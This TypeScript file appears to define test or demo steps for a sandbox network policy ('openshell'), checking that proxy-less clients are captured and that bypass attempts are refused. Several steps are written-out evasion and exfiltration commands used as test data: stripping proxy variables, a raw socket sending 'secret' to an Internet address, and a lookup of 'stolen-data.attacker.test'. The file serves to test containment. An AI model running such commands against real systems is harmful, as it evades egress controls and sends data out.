import type { Chapter } from '../step.ts';

const RUN = 'openshell run --policy policy.yaml';
/** For programs that know no proxy. */
const BARE =
  'env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy -u NODE_USE_ENV_PROXY';

/** Programs that know no proxy, or do not want to. */
export const waysOut: Chapter = {
  title: 'Around the proxy',
  steps: [
    {
      title: 'Node.js without any proxy variable: captured, same decision',
      command: `${RUN} -- ${BARE} node -e 'fetch("https://origin.test/").then(r => r.text()).then(console.log)'`,
      needs: [],
      verdict: 'it connected directly, and policy decided all the same',
      holds: ({ code, output }) => code === 0 && output.includes('Hello from origin.test.'),
    },
    {
      title: 'A database client, which has no proxy setting at all',
      command: `${RUN} -- psql 'host=database.test user=guest dbname=shop sslmode=disable' -c 'select stock from fruit'`,
      needs: ['psql'],
      verdict: 'a raw protocol, allowed by name and port',
      holds: ({ code, output }) => code === 0 && output.includes('42 apples'),
    },
    {
      title: 'A raw socket of Python to the same database',
      command: `${RUN} -- python3 -c 'import socket; s = socket.create_connection(("database.test", 5432)); s.sendall(bytes([0,0,0,8,4,210,22,47])); print("answer:", s.recv(1))'`,
      needs: ['python3'],
      verdict: 'any TCP client is captured, none needs to be prepared',
      holds: ({ code, output }) => code === 0 && output.includes("answer: b'N'"),
    },
    {
      title: 'A bypass attempt: a plain socket to an address on the Internet',
      command: `${RUN} --events events.jsonl -- node -e 'require("net").connect(443, "203.0.113.7").on("error", e => console.log(e.code)).end("secret")'; grep -o '"finding_info":{[^}]*}' events.jsonl`,
      needs: [],
      verdict: 'it went nowhere, and the attempt is on record',
      holds: ({ output }) =>
        /refused node .*203\.0\.113\.7:443/.test(output) && output.includes('"uid":"bypass-detect"'),
    },
    {
      title: 'Names that no rule could allow are not even looked up',
      command: `${RUN} -- getent hosts stolen-data.attacker.test`,
      needs: ['getent'],
      verdict: 'DNS is no way out',
      holds: ({ code, output }) => code === 2 && output.includes('refused stolen-data.attacker.test'),
    },
    {
      title: 'UDP fails at once',
      command: `${RUN} -- node -e 'const s = require("dgram").createSocket("udp4"); s.on("error", e => { console.log(e.code); s.close() }); s.connect(9999, "203.0.113.7", () => s.send("x"))'`,
      needs: [],
      verdict: 'refused with an error that the program understands',
      holds: ({ output }) => output.includes('ECONNREFUSED'),
    },
  ],
};
